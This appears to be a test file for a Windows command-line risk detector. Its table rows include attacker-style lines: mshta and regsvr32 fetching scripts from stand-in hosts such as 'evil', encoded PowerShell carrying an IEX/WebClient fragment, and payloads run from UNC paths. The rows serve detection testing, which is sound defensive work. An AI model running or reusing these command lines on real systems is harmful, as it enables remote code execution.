// Table-driven: every trait in the forms attackers and admins actually write (switch first or after others,
// quoted paths, any letter case, forward slashes, env-var forms, nesting), and the near misses that must stay
// clean. Each row: the command line, the trait ids expected (in COMMAND_TRAITS order).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { commandTraits, learnBaseline, scoreRisk, severityForScore, COMMAND_TRAITS, type RiskKnowledge } from '../../src/tuning/index.js';
import { splitCommands } from '../../src/tuning/command-line.js';
import { makeAlert } from './corpus.js';

const ids = (line: string) => commandTraits(line).map((t) => t.id);
const B64 = 'SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==';

function check(rows: ReadonlyArray<readonly [string, readonly string[]]>): void {
  for (const [line, expected] of rows) assert.deepEqual(ids(line), expected, line);
}

test('Windows argv splitting: quotes, escaped quotes, the program name rule, carets, command separators', () => {
  assert.deepEqual(splitCommands('"C:\\Program Files\\x.exe" -a "b c" d\\"e f\\\\"g h"'), [['C:\\Program Files\\x.exe', '-a', 'b c', 'd"e', 'f\\g h']]);
  // The program name takes no escapes: a trailing backslash before its closing quote stays.
  assert.deepEqual(splitCommands('"C:\\dir\\" -x'), [['C:\\dir\\', '-x']]);
  assert.deepEqual(splitCommands('a "x""y" b'), [['a', 'x"y', 'b']]);
  assert.deepEqual(splitCommands('p^ower^shell -e^nc x & calc|more;y,z'), [['powershell', '-enc', 'x'], ['calc'], ['more'], ['y', 'z']]);
  assert.deepEqual(splitCommands('cmd /c "a & b"'), [['cmd', '/c', 'a & b']]);
});

test('encoded PowerShell: every prefix of -EncodedCommand, -ec, any case, any switch character, any position', () => {
  const rows: Array<[string, string[]]> = [];
  const names = ['e', 'ec', 'en', 'enc', 'enco', 'encod', 'encode', 'encoded', 'encodedc', 'encodedcomm', 'encodedcommand', 'EncodedCommand', 'ENC', 'Ec', 'eNc'];
  for (const name of names) {
    for (const dash of ['-', '/', '--', '\u2013']) rows.push([`powershell.exe ${dash}${name} ${B64}`, ['powershell-encoded']]);
  }
  rows.push(
    [`powershell -enc ${B64}`, ['powershell-encoded']],
    [`pwsh.exe -e ${B64}`, ['powershell-encoded']],
    [`PWSH -EC ${B64}`, ['powershell-encoded']],
    [`PowerShell.EXE -NoP -NonI -W Hidden -Exec Bypass -enc ${B64}`, ['powershell-encoded']],
    [`powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -e "${B64}"`, ['powershell-encoded']],
    [`"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -e ${B64}`, ['powershell-encoded']],
    [`C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe /enc ${B64}`, ['powershell-encoded']],
    [`"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -en ${B64}`, ['powershell-encoded']],
    [`C:\\Program Files\\PowerShell\\7\\pwsh.exe -encodedcommand ${B64}`, ['powershell-encoded']],
    [`powershell.exe -enc:${B64}`, ['powershell-encoded']],
    [`powershell.exe\t-enc\t${B64}`, ['powershell-encoded']],
    [`p^owershell -e^nc ${B64}`, ['powershell-encoded']],
    [`calc.exe&powershell -e ${B64}`, ['powershell-encoded']],
    [`cmd.exe /c powershell -enc ${B64}`, ['cmd', 'powershell-encoded']],
    [`cmd.exe /c "powershell.exe -w hidden -enc ${B64}"`, ['cmd', 'powershell-encoded']],
    [`powershell -c "powershell -enc ${B64}"`, ['powershell-encoded']],
  );
  check(rows);
});

test('not encoded PowerShell: other switches, arguments of -File / -Command, no value, other programs', () => {
  check([
    ['powershell.exe -File C:\\Scripts\\inventory.ps1', []],
    ['powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1 -e prod', []],
    ['powershell.exe -f C:\\Scripts\\x.ps1 -enc abcdefgh', []],
    ['powershell.exe -Command Get-Process -ea SilentlyContinue', []],
    ['powershell.exe -c "Write-Output done" -e x', []],
    ['pwsh -ex bypass -ep bypass -EncodedArguments ZQBjAGgAbwA=', []],
    ['powershell.exe -enc', []],
    ['powershell.exe -enc -nop', []],
    [`C:\\Tools\\powershelltool.exe -enc ${B64}`, []],
    [`openssl.exe enc -e ${B64}`, []],
  ]);
});

test('cmd /c, /k, /r: case, full and quoted paths, %COMSPEC%, switches before it, glued forms', () => {
  check([
    ['cmd /c calc.exe', ['cmd']],
    ['cmd.exe /C whoami', ['cmd']],
    ['CMD.EXE /K whoami', ['cmd']],
    ['cmd /r whoami', ['cmd']],
    ['C:\\Windows\\system32\\cmd.exe /C C:\\Windows\\System32\\notepad.exe', ['cmd']],
    ['"C:\\Windows\\System32\\cmd.exe" /c whoami', ['cmd']],
    ['C:/Windows/System32/cmd.exe /c whoami', ['cmd']],
    ['%COMSPEC% /c whoami', ['cmd']],
    ['%comspec% /Q /C whoami', ['cmd']],
    ['%SystemRoot%\\System32\\cmd.exe /c whoami', ['cmd']],
    ['cmd.exe /Q /D /V:ON /E:OFF /c whoami', ['cmd']],
    ['cmd.exe /q/c whoami', ['cmd']],
    ['cmd.exe/c whoami', ['cmd']],
    ['cmd /ccalc.exe', ['cmd']],
    ['cmd,/c calc.exe', ['cmd']],
    ['c^md /c calc', ['cmd']],
    ['powershell.exe -c "cmd.exe /c whoami"', ['cmd']],
    ["powershell.exe -c \"& 'C:\\Windows\\System32\\cmd.exe' /c whoami\"", ['cmd']],
    // Near misses.
    ['C:\\Windows\\System32\\cmdkey.exe /list', []],
    ['cmd.exe', []],
    ['cmd.exe /q', []],
    ['cmd.exe whoami /c', []],
    ['C:\\Tools\\mycmd.exe /c x', []],
    ['C:\\cmd\\tool.exe /c x', []],
  ]);
});

test('rundll32, regsvr32, mshta: full paths, quotes, case, first or nested position', () => {
  check([
    ['rundll32 shell32.dll,Control_RunDLL', ['rundll32']],
    ['RUNDLL32.EXE javascript:"\\..\\mshtml,RunHTMLApplication"', ['rundll32']],
    ['"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\x.dll,Run', ['rundll32']],
    ['C:\\Windows\\SysWOW64\\rundll32.exe x.dll,Start', ['rundll32']],
    ['"C:\\Windows\\System32\\rundll32.exe",x.dll', ['rundll32']],
    ['regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll', ['regsvr32']],
    ['C:\\Windows\\System32\\REGSVR32.exe /s C:\\x.dll', ['regsvr32']],
    ['"C:\\Windows\\SysWOW64\\regsvr32.exe" /s x.dll', ['regsvr32']],
    ['mshta.exe javascript:a', ['mshta']],
    ['MSHTA vbscript:Execute("x")', ['mshta']],
    ['"C:\\Windows\\System32\\mshta.exe" http://evil/a.hta', ['mshta']],
    ['cmd /c start mshta http://evil/a.hta', ['cmd', 'mshta']],
    ["powershell -c \"Start-Process 'C:\\Windows\\System32\\rundll32.exe' x.dll,Run\"", ['rundll32']],
    // Near misses: the name inside another name or as a folder.
    ['C:\\Tools\\rundll32-helper.exe', []],
    ['C:\\Tools\\mshta\\notes.exe', []],
    ['notepad.exe C:\\docs\\regsvr32.txt', []],
    ['C:\\Tools\\myrundll32.exe', []],
  ]);
});

test('paths: Users\\Public, Temp folders, ProgramData in every spelling; UNC paths', () => {
  check([
    ['C:\\Users\\Public\\update.exe', ['users-public']],
    ['"C:\\Users\\Public\\up date.exe"', ['users-public']],
    ['c:\\users\\public\\x.bat', ['users-public']],
    ['C:/Users/Public/x.exe', ['users-public']],
    ['C:\\\\Users\\\\Public\\\\x.exe', ['users-public']],
    ['%PUBLIC%\\x.exe', ['users-public']],
    ['%SystemDrive%\\Users\\Public\\x.exe', ['users-public']],
    ['tool.exe -WorkingDirectory C:\\Users\\Public', ['users-public']],
    ['powershell -c "& $env:PUBLIC\\x.ps1"', ['users-public']],
    ['C:\\Windows\\Temp\\a.bat', ['temp']],
    ['C:\\Users\\bob\\AppData\\Local\\Temp\\a.vbs', ['temp']],
    ['"C:\\Users\\bob\\AppData\\Local\\Temp\\a b.vbs"', ['temp']],
    ['C:/Windows/Temp/a.exe', ['temp']],
    ['C:\\TEMP\\a.exe', ['temp']],
    ['C:\\tmp\\a.exe', ['temp']],
    ['%TEMP%\\a.exe', ['temp']],
    ['%tmp%\\a.exe', ['temp']],
    ['%LOCALAPPDATA%\\Temp\\a.exe', ['temp']],
    ['%USERPROFILE%\\AppData\\Local\\Temp\\a.exe', ['temp']],
    ['powershell -c "iex $env:TEMP\\a.ps1"', ['temp']],
    ['C:\\ProgramData\\x.exe', ['programdata']],
    ['C:/ProgramData/x.exe', ['programdata']],
    ['"C:\\ProgramData\\Some Vendor\\x.exe"', ['programdata']],
    ['%ProgramData%\\x.exe', ['programdata']],
    ['%ALLUSERSPROFILE%\\x.exe', ['programdata']],
    ['\\\\fileserver\\share\\tool.exe', ['unc']],
    ['"\\\\10.0.0.5\\c$\\Windows\\x.exe"', ['unc']],
    ['tool.exe \\\\host\\share', ['unc']],
    ['tool.exe --source=\\\\host\\share\\x', ['unc']],
    ['regsvr32 /s /i:\\\\evil\\s\\x.sct scrobj.dll', ['regsvr32', 'unc']],
    ['\\\\?\\UNC\\host\\share\\x.exe', ['unc']],
    ['\\\\evil@SSL@443\\DavWWWRoot\\x.exe', ['unc']],
    ['//host/share/x.exe', ['unc']],
    ['\\\\host\\c$\\Users\\Public\\x.exe', ['users-public', 'unc']],
    // Near misses.
    ['C:\\Users\\Publication\\x.exe', []],
    ['C:\\Installers\\tempo.msi', []],
    ['C:\\Windows\\System32\\msiexec.exe /i C:\\Installers\\tempo.msi', []],
    ['C:\\Templates\\x.exe', []],
    ['tool.exe /tmp', []],
    ['tool.exe /temp:5', []],
    ['C:\\ProgramDataBackup\\x.exe', []],
    ['\\\\.\\pipe\\x', []],
    ['\\\\?\\C:\\Windows\\x.exe', []],
    ['curl.exe http://host/share/x', []],
    ['C:\\Windows\\System32\\notepad.exe', []],
  ]);
});

test('every trait has a row above: the list of traits is what the tables test', () => {
  assert.deepEqual(COMMAND_TRAITS.map((t) => t.id), ['cmd', 'powershell-encoded', 'rundll32', 'regsvr32', 'mshta', 'users-public', 'temp', 'programdata', 'unc']);
});

test('QA repro: the task powershell.exe -enc <base64> is scored as encoded PowerShell', () => {
  const a = scoreRisk(makeAlert({ host: 'ws-1', time: '2026-03-02T09:00:00.000Z', sourceIp: '10.0.5.20', command: 'powershell.exe', args: `-enc ${B64}` }));
  assert.deepEqual(a['seqhunt.risk.factors'], [{ factor: 'PowerShell with an encoded command', delta: 20 }]);
  assert.equal(a['kibana.alert.risk_score'], 67);
  assert.equal(a['kibana.alert.severity'], 'high');
});

test('baseline learn holds back an encoded PowerShell shape pushed to many hosts', () => {
  const alerts = Array.from({ length: 8 }, (_, i) =>
    makeAlert({ host: `ws-${i}.corp.local`, time: `2026-03-0${1 + (i % 4)}T10:00:00.000Z`, sourceIp: '10.0.5.20', user: 'svc_sccm', domain: 'CORP', command: 'powershell.exe', args: `-enc ${B64}` }),
  );
  const learned = learnBaseline(alerts, { now: new Date('2026-03-10T00:00:00Z') });
  assert.equal(learned.proposed.length, 0);
  assert.equal(learned.list.items.length, 0);
  assert.equal(learned.heldBack.length, 1);
  assert.deepEqual(learned.heldBack[0]!.traits, ['PowerShell with an encoded command']);
});

test('the baselined-source reduction never offsets strong attacker traits', () => {
  const knowledge: RiskKnowledge = { seenSources: new Set(['10.0.5.20']), baselinedSources: new Set(['10.0.5.20']) };
  const strong = COMMAND_TRAITS.filter((t) => t.weight === 'high');
  const examples: Record<string, [string, string?]> = {
    'powershell-encoded': ['powershell.exe', `-enc ${B64}`],
    rundll32: ['rundll32.exe', 'x.dll,Run'],
    regsvr32: ['regsvr32.exe', '/s x.dll'],
    mshta: ['mshta.exe', 'http://evil/a.hta'],
    'users-public': ['C:\\Users\\Public\\x.exe'],
    temp: ['C:\\Windows\\Temp\\x.exe'],
    unc: ['\\\\evil\\s\\x.exe'],
  };
  for (const rule of [{ riskScore: 21, severity: 'low' }, { riskScore: 47, severity: 'medium' }, { riskScore: 73, severity: 'high' }]) {
    for (const t of strong) {
      const [command, args] = examples[t.id]!;
      const a = scoreRisk(makeAlert({ host: 'ws-1', time: '2026-03-02T09:00:00.000Z', sourceIp: '10.0.5.20', command, args, runAs: 'CORP\\svc', ...rule }), knowledge);
      const what = `${t.id} with rule score ${rule.riskScore}`;
      assert.deepEqual(a['seqhunt.risk.factors'], [
        { factor: t.factor, delta: t.delta },
        { factor: 'source 10.0.5.20 is baselined, but no reduction: the command has strong attacker traits', delta: 0 },
      ], what);
      assert.equal(a['kibana.alert.risk_score'], rule.riskScore + t.delta, what);
      assert.equal(a['kibana.alert.severity'], severityForScore(rule.riskScore + t.delta), what);
      assert.notEqual(a['kibana.alert.severity'], 'low', what);
    }
  }
  // Medium traits alone (cmd /c, ProgramData: admin tooling uses them) keep the reduction.
  const admin = scoreRisk(makeAlert({ host: 'ws-1', time: '2026-03-02T09:00:00.000Z', sourceIp: '10.0.5.20', command: 'cmd.exe', args: '/c C:\\ProgramData\\agent\\run.cmd' }), knowledge);
  assert.deepEqual(admin['seqhunt.risk.factors']!.map((f) => f.delta), [10, 10, -15]);
  assert.equal(admin['kibana.alert.risk_score'], 52);
});

test('odd command lines never throw: unterminated quotes, lone carets and backslashes, empty text, deep nesting', () => {
  for (const line of ['', ' ', '"', '^', '\\', '\\\\', '"powershell -enc', 'powershell "-enc', '&&||;;', '"""""', 'cmd /c "'.repeat(50) + 'x']) {
    assert.ok(Array.isArray(ids(line)), JSON.stringify(line));
  }
  // An unterminated quote still groups to the end, as Windows does.
  assert.deepEqual(ids(`cmd /c "powershell -enc ${B64}`), ['cmd', 'powershell-encoded']);
});
